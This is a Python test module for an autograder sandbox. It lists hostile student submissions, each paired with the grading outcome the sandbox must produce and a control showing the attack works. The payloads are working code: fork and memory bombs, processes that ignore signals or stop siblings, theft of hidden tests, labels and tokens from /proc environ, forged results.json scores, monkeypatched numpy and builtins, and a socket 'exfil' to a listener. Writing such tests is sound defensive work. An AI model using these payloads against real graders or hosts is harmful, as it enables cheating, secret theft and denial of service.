"""The hostile-submission corpus: each case is a real attack with an asserted outcome.

A case's ``attack`` is Python appended to the reference's ``src/layers.py``.  Unless the case
says otherwise it defines ``_attack(*args)`` and the four Q1 functions all call it, so every Q1
test runs the attack and Q1 must score exactly zero, each Q1 test saying ``expect``; Q3
(softmax, a file the attack does not touch) must keep full marks.  Model cases attack Q6's
saved model instead and leave Q1 and Q3 alone.

``{kit}``, ``{root}`` (the Gradescope root), ``{marker}`` (a host folder that must stay empty)
and ``{port}`` (a listener on the host's 127.0.0.1) are filled in before grading: the attacker
is assumed to know every real path.

``control`` is the positive control: Python run WITHOUT the sandbox in a subprocess (with the
submission's ``src`` importable and the same placeholders); it must print ``CONTROL-OK``, or,
for ``control_hangs`` cases, still be running after ``CONTROL_SECONDS``.  It proves the attack
works, so a passing case proves the defence and not a wrong path or a lazy allocation.
"""
from __future__ import annotations

import dataclasses

CONTROL_SECONDS = 3.0

ROUTE_Q1 = '''
def linear_forward(X, W, b):
    return _attack(X, W, b)

def linear_backward(dout, X, W, b):
    return _attack(dout, X, W, b)

def relu_forward(X):
    return _attack(X)

def relu_backward(dout, X):
    return _attack(dout, X)
'''


@dataclasses.dataclass(frozen=True)
class Case:
    name: str
    attack: str                            # appended to src/layers.py (before ROUTE_Q1)
    expect: str                            # regex every attacked test's output matches
    control: str | None = None
    control_hangs: bool = False
    route_q1: bool = True                  # Q1 functions call _attack
    zero: tuple[str, ...] = ("Q1",)        # questions that must score 0
    full: tuple[str, ...] = ("Q3",)        # questions that must keep full marks
    files: tuple[tuple[str, str], ...] = ()    # extra (path, text) files of the submission
    model: str | None = None               # model attack: see test_hostile.py
    secrets_absent: bool = False           # results.json must not contain any planted secret
    max_seconds: float = 90.0              # bound on grading the whole submission (CI subset)
    poisons_module: bool = False           # breaks all of src/layers.py at import: in the full
    #                                        run its other question (Q2) may fail too
    hangs_at_import: bool = False          # src/layers.py never finishes importing: one test of
    #                                        each attacked question waits out its limit, the
    #                                        others fail at once naming that timeout


CASES: list[Case] = [
    # ------------------------------------------------------------------ time
    Case("infinite_loop", "def _attack(*a):\n    while True:\n        pass\n",
         r"timed out after [\d.]+ s in layers\.\w+",
         control="from src.layers import _attack\n_attack()\n", control_hangs=True),
    Case("sleep_forever", "import time\ndef _attack(*a):\n    time.sleep(10 ** 6)\n",
         r"timed out after [\d.]+ s in layers\.\w+",
         control="from src.layers import _attack\n_attack()\n", control_hangs=True),
    Case("ignores_sigterm_and_sigint",
         "import signal\ndef _attack(*a):\n    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
         "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n    while True:\n        pass\n",
         r"timed out after [\d.]+ s in layers\.\w+",
         control=("import os, signal, subprocess, sys, time\n"
                  "p = subprocess.Popen([sys.executable, '-c', 'import sys; sys.path.insert(0, %r); "
                  "from src.layers import _attack; _attack()' % SUB])\n"
                  # signals are sent once the child ignores both (its SigIgn mask), not after a
                  # fixed sleep that a loaded machine may outlast
                  "want = (1 << (signal.SIGTERM - 1)) | (1 << (signal.SIGINT - 1)); t0 = time.monotonic()\n"
                  "def ignored():\n"
                  "    for line in open(f'/proc/{p.pid}/status'):\n"
                  "        if line.startswith('SigIgn:'):\n"
                  "            return int(line.split()[1], 16) & want == want\n"
                  "while not ignored() and p.poll() is None and time.monotonic() - t0 < 60:\n"
                  "    time.sleep(0.01)\n"
                  "p.send_signal(signal.SIGTERM); p.send_signal(signal.SIGINT); time.sleep(0.5)\n"
                  "alive = p.poll() is None; p.kill(); p.wait()\n"
                  "print('CONTROL-OK' if alive else 'died')\n")),
    # ------------------------------------------------------------------ processes
    Case("fork_bomb",
         "import os\ndef _attack(*a):\n    while True:\n        try:\n            os.fork()\n"
         "        except OSError:\n            pass\n",
         r"timed out after [\d.]+ s|Resource temporarily unavailable|crashed|exited|killed",
         control=None),
    Case("fork_300_processes",
         "import os, time\ndef _forks(n):\n    kids = []\n    for _ in range(n):\n        pid = os.fork()\n"
         "        if pid == 0:\n            time.sleep(2)\n            os._exit(0)\n        kids.append(pid)\n"
         "    for pid in kids:\n        os.waitpid(pid, 0)\n    return len(kids)\n"
         "def _attack(*a):\n    return _forks(300)\n",
         r"Resource temporarily unavailable|BlockingIOError",
         control="from src.layers import _forks\nassert _forks(300) == 300\nprint('CONTROL-OK')\n"),
    Case("stops_the_worker",
         # SIGSTOP to its parent (the zygote) and to the parent's other children (the spare):
         # the same uid may.  Each attacked test's zygote is restarted before the next test,
         # at once (not after a reply's timeout), so the grading stays within its bound.
         "import os, signal\ndef _attack(*a):\n    parent = os.getppid()\n"
         "    for entry in os.listdir('/proc'):\n        if not entry.isdigit() or int(entry) == os.getpid():\n"
         "            continue\n        try:\n            with open(f'/proc/{{entry}}/stat') as f:\n"
         "                ppid = int(f.read().rsplit(')', 1)[1].split()[1])\n"
         "        except (OSError, ValueError, IndexError):\n            continue\n"
         "        if ppid == parent:\n            try:\n                os.kill(int(entry), signal.SIGSTOP)\n"
         "            except OSError:\n                pass\n"
         "    os.kill(parent, signal.SIGSTOP)\n    return 0\n",
         r"has shape|must return a tuple|expected",
         max_seconds=60.0,
         control=("import os, subprocess, sys, time\n"
                  "inner = 'import sys; sys.path.insert(0, %r); from src.layers import _attack; _attack()' % SUB\n"
                  "mid = subprocess.Popen([sys.executable, '-c', 'import subprocess, sys, time; "
                  "subprocess.run([sys.executable, \"-c\", %r]); time.sleep(60)' % inner])\n"
                  "def state():\n    try:\n        return open(f'/proc/{mid.pid}/stat').read().rsplit(')', 1)[1].split()[0]\n"
                  "    except OSError:\n        return ''\n"
                  "t0 = time.monotonic()\n"
                  "while state() != 'T' and time.monotonic() - t0 < 30:\n    time.sleep(0.01)\n"
                  "ok = state() == 'T'; mid.kill(); mid.wait()\n"
                  "print('CONTROL-OK' if ok else 'not stopped')\n")),
    Case("os_exit_mid_test", "import os\ndef _attack(*a):\n    os._exit(0)\n",
         r"exited with code 0 during layers\.\w+",
         control=("import subprocess, sys\nr = subprocess.run([sys.executable, '-c', 'import sys; sys.path.insert(0, %r); "
                  "from src.layers import _attack; _attack(); print(\"survived\")' % SUB], capture_output=True, text=True)\n"
                  "print('CONTROL-OK' if r.returncode == 0 and 'survived' not in r.stdout else r.stdout)\n")),
    Case("sys_exit_mid_test", "import sys\ndef _attack(*a):\n    sys.exit(0)\n",
         r"raised SystemExit",
         control=("from src.layers import _attack\ntry:\n    _attack()\nexcept SystemExit:\n    print('CONTROL-OK')\n")),
    Case("thread_keeps_running",
         "import threading, time, numpy as np\n"
         "def _beat():\n    while True:\n        for p in ({marker!r} + '/thread', '/tmp/dlkit-thread-marker'):\n"
         "            try:\n                open(p, 'a').write('beat')\n            except OSError:\n                pass\n"
         "        time.sleep(0.05)\n"
         "def _attack(*a):\n    threading.Thread(target=_beat, daemon=False).start()\n    return np.zeros((1, 1))\n",
         r"has shape|max relative error|expected|must return a tuple",
         control=("import os, time\nfrom src.layers import _attack\n_attack(); t0 = time.monotonic()\n"
                  "while not os.path.exists(MARKER + '/thread') and time.monotonic() - t0 < 30:\n"
                  "    time.sleep(0.01)\n"
                  "print('CONTROL-OK' if os.path.exists(MARKER + '/thread') else 'no beat'); os._exit(0)\n")),
    # ------------------------------------------------------------------ memory, output, files
    Case("memory_bomb_50gb",
         "import numpy as np, resource\ndef _bomb(gb):\n    a = np.ones(int(gb * 2**30) // 8)\n"
         "    return float(a[::512].sum())\ndef _attack(*a):\n    return _bomb(50)\n",
         r"MemoryError|memory limit|killed \(SIGKILL\)",
         control=("import resource\nfrom src.layers import _bomb\n_bomb(2.5)\n"
                  "rss_gb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 2**20\n"
                  "print('CONTROL-OK' if rss_gb >= 2.4 else 'lazy: %.2f GB' % rss_gb)\n")),
    Case("stdout_1gb",
         "import sys\ndef _flood(n):\n    chunk = 'x' * (1 << 20)\n    for _ in range(n >> 20):\n"
         "        sys.stdout.write(chunk)\n    sys.stdout.flush()\n    return n\n"
         "def _attack(*a):\n    return _flood(1 << 30)\n",
         r"printed more than 16 MB",
         control=("import subprocess, sys\nr = subprocess.run([sys.executable, '-c', 'import sys; sys.path.insert(0, %r); "
                  "from src.layers import _flood; _flood(1 << 30)' % SUB], stdout=subprocess.PIPE)\n"
                  "print('CONTROL-OK' if len(r.stdout) == 1 << 30 else len(r.stdout))\n")),
    Case("file_10gb",
         "import os\ndef _write(gb, path='big.bin'):\n    chunk = b'\\0' * (1 << 20)\n"
         "    with open(path, 'wb') as f:\n        for _ in range(int(gb * 1024)):\n            f.write(chunk)\n"
         "    return os.path.getsize(path)\ndef _attack(*a):\n    return _write(10)\n",
         r"File too large|Errno 27|SIGXFSZ|larger than",
         control=("import os, tempfile\nfrom src.layers import _write\nd = tempfile.mkdtemp()\n"
                  "n = _write(0.2, os.path.join(d, 'big.bin'))\nos.remove(os.path.join(d, 'big.bin'))\n"
                  "print('CONTROL-OK' if n >= 200 * 2**20 else n)\n")),
    # ------------------------------------------------------------------ secrets
    Case("read_secrets",
         "import os, glob\n"
         "def _try(label, fn):\n    try:\n        text = fn()\n        i = text.find('GRADESCOPE_TOKEN')\n"
         "        return '%s=READ:%s%s' % (label, text[:200], text[i:i + 60] if i >= 0 else '')\n"
         "    except Exception as e:\n        return '%s=%s' % (label, type(e).__name__)\n"
         "def _read(p):\n    with open(p, 'rb') as f:\n        return f.read().hex() if p.endswith('.npy') else f.read().decode('utf-8', 'replace')\n"
         "def _loot():\n    out = []\n"
         "    out.append(_try('hidden', lambda: _read({kit!r} + '/hidden_tests/test_q1_linear_relu.py')))\n"
         "    out.append(_try('hidden_ls', lambda: ','.join(os.listdir({kit!r} + '/hidden_tests'))))\n"
         "    out.append(_try('reference', lambda: _read({kit!r} + '/reference/src/layers.py')))\n"
         "    out.append(_try('reference_ls', lambda: ','.join(os.listdir({kit!r} + '/reference/src'))))\n"
         "    out.append(_try('labels', lambda: _read({kit!r} + '/datasets/digits/private/test_labels.npy')))\n"
         "    out.append(_try('results_ls', lambda: ','.join(os.listdir({root!r} + '/results'))))\n"
         "    out.append(_try('env', lambda: ';'.join('%s=%s' % kv for kv in os.environ.items())))\n"
         "    for p in glob.glob('/proc/[0-9]*'):\n"
         "        out.append(_try('proc' + p[5:], lambda p=p: _read(p + '/environ')))\n"
         "        out.append(_try('cmd' + p[5:], lambda p=p: _read(p + '/cmdline')))\n"
         "    return ' | '.join(out)\n"
         "def _attack(*a):\n    raise ValueError('LOOT ' + _loot())\n",
         r"LOOT hidden=(FileNotFoundError|PermissionError)",
         control=("from src.layers import _loot\nloot = _loot()\n"
                  "ok = 'hidden=READ' in loot and 'reference=READ' in loot and 'labels=READ' in loot and SECRET in loot\n"
                  "print('CONTROL-OK' if ok else loot[:500])\n"),
         secrets_absent=True),
    Case("writes_results_json",
         "import os, json, numpy as np\n"
         "def _forge():\n    done = []\n"
         "    for p in ({root!r} + '/results/results.json', '/autograder/results/results.json', 'results.json',\n"
         "              {marker!r} + '/results.json'):\n"
         "        try:\n            os.makedirs(os.path.dirname(p) or '.', exist_ok=True)\n"
         "            with open(p, 'w') as f:\n                json.dump({{'score': 1000, 'tests': []}}, f)\n"
         "            done.append(p)\n        except OSError:\n            pass\n    return done\n"
         "def _attack(*a):\n    _forge()\n    return np.zeros((1, 1))\n",
         r"has shape|max relative error|expected|must return a tuple",
         control=("import os\nfrom src.layers import _forge\ndone = _forge()\n"
                  "print('CONTROL-OK' if MARKER + '/results.json' in done else done)\nos.remove(MARKER + '/results.json')\n")),
    # ------------------------------------------------------------------ forged and odd return values
    Case("forged_eq_array_float",
         "class _Liar:\n    def __eq__(self, o):\n        return True\n    __hash__ = object.__hash__\n"
         "    def __array__(self, *a, **k):\n        raise RuntimeError('never on the trusted side')\n"
         "    def __float__(self):\n        return 0.0\n    def __len__(self):\n        return 1\n"
         "def _attack(*a):\n    return _Liar()\n",
         r"expected a numeric array|expected a NumPy array of shape \(\d+, \d+\), got a value of type "
         r"\S*_Liar|must return a tuple",
         control="import numpy as np\nfrom src.layers import _attack\nprint('CONTROL-OK' if _attack() == np.zeros(3) else 'no')\n"),
    Case("ndarray_subclass",
         "import numpy as np\nclass _Sub(np.ndarray):\n    def __eq__(self, o):\n        return True\n"
         "    def __array_ufunc__(self, *a, **k):\n        return 0.0\n"
         "def _attack(*a):\n    return np.zeros((2, 2)).view(_Sub)\n",
         r"has shape|max relative error|must return a tuple",
         control="import numpy as np\nfrom src.layers import _attack\nprint('CONTROL-OK' if _attack() == np.ones(3) else 'no')\n"),
    Case("object_array", "import numpy as np\ndef _attack(*a):\n    return np.array([object(), 1], dtype=object)\n",
         r"dtype object|object or structured", control=None),
    Case("nan_and_inf",
         "import numpy as np\ndef _attack(*a):\n    x = np.asarray(a[-1], dtype=float)\n    out = np.full((x.shape[0], 99), np.nan)\n"
         "    return out\n",
         r"NaN|has shape|must return a tuple", control=None),
    Case("wrong_dtype", "import numpy as np\ndef _attack(*a):\n    return np.array([['a', 'b']])\n",
         r"expected a numeric array|must return a tuple", control=None),
    Case("gigantic_array", "import numpy as np\ndef _attack(*a):\n    return np.ones(100 * 2**20 // 8)\n",
         # the array is refused where it would cross; a gradient check made next to the student
         # code (worker/probes.py) never sends it and names its wrong shape instead
         # (the full run's 256 MB reply limit lets the 100 MB array cross: the check refuses it)
         r"exceeds the limit of 64 MB|MemoryError|has shape \(13107200,\)|must return a tuple",
         control=None),
    # ------------------------------------------------------------------ the worker's own runtime
    Case("monkeypatch_numpy",
         "import numpy\nnumpy.allclose = lambda *a, **k: True\nnumpy.array_equal = lambda *a, **k: True\n"
         "numpy.testing.assert_allclose = lambda *a, **k: None\nnumpy.max = lambda *a, **k: 0.0\n"
         "numpy.abs = lambda x, *a, **k: 0 * x\n"
         "def _attack(*a):\n    return numpy.zeros((1, 1))\n",
         r"has shape|max relative error|must return a tuple", control=None),
    Case("monkeypatch_builtins",
         "import builtins\nbuiltins.isinstance = lambda o, t: True\nbuiltins.len = lambda o: 0\n"
         "def _attack(*a):\n    return 0\n",
         r".", control=None, poisons_module=True),
    Case("monkeypatch_sys_modules",
         "import sys, types\nfor _name in ('json', 'numpy', 'struct', 'socket', 'io'):\n"
         "    sys.modules[_name] = types.ModuleType(_name)\n"
         "def _attack(*a):\n    return 0\n",
         r".", control=None, poisons_module=True),
    Case("import_time_side_effects",
         "import os, time\nfor _p in ({marker!r} + '/import', '/tmp/dlkit-import-marker', {kit!r} + '/IMPORT_MARKER',\n"
         "           {root!r} + '/results/results.json'):\n"
         "    try:\n        open(_p, 'w').write('imported')\n    except OSError:\n        pass\n"
         "print('x' * 100000)\ntime.sleep(3600)\n"
         "def _attack(*a):\n    return 0\n",
         r"timed out after [\d.]+ s",
         poisons_module=True, hangs_at_import=True,
         control=("import os, subprocess, sys\np = subprocess.Popen([sys.executable, '-c', 'import sys; sys.path.insert(0, %r); "
                  "import src.layers' % SUB], stdout=subprocess.DEVNULL)\nimport time; t0 = time.monotonic()\n"
                  # until the import's marker appears (or 60 s), not a fixed sleep
                  "while not os.path.exists(MARKER + '/import') and time.monotonic() - t0 < 60:\n"
                  "    time.sleep(0.01)\n"
                  "p.kill(); p.wait()\n"
                  "print('CONTROL-OK' if os.path.exists(MARKER + '/import') else 'no marker')\n")),
    Case("modules_named_like_grader_modules", "", r".", route_q1=False, zero=(), full=("Q1", "Q3"),
         files=(("src/autograder.py", "raise RuntimeError('shadowed autograder imported')\n"),
                ("src/numpy.py", "raise RuntimeError('shadowed numpy imported')\n"),
                ("src/dlkit_worker.py", "raise RuntimeError('shadowed worker imported')\n"),
                ("src/json.py", "raise RuntimeError('shadowed json imported')\n"),
                ("src/pytest.py", "raise RuntimeError('shadowed pytest imported')\n"),
                ("numpy.py", "raise RuntimeError('shadowed numpy imported')\n")),
         control=None),
    # ------------------------------------------------------------------ network
    Case("network_connect_and_dns",
         "import socket\ndef _net():\n    out = []\n    try:\n"
         "        s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n        s.sendall(b'exfil')\n"
         "        s.close()\n        out.append('connected')\n    except OSError as e:\n        out.append('connect:' + type(e).__name__)\n"
         "    try:\n        out.append('dns:' + socket.gethostbyname('pypi.org'))\n    except OSError as e:\n"
         "        out.append('dns:' + type(e).__name__)\n    return ','.join(out)\n"
         "def _attack(*a):\n    raise ValueError('NET ' + _net())\n",
         r"NET connect:\w+,dns:\w+",
         control="from src.layers import _net\nr = _net()\nprint('CONTROL-OK' if 'connected' in r else r)\n"),
    # ------------------------------------------------------------------ saved models
    Case("model_pickle_payload", "", r"weights_only=True.*pickled objects are refused", route_q1=False,
         zero=(), full=("Q1", "Q3"), model="pickle", control=None),
    Case("model_safetensors_header_lies", "", r"not a valid safetensors file", route_q1=False,
         zero=(), full=("Q1", "Q3"), model="lying_header", control=None),
    Case("model_file_5gb", "", r"no saved model found", route_q1=False, zero=(), full=("Q1", "Q3"),
         model="huge", control=None),
]
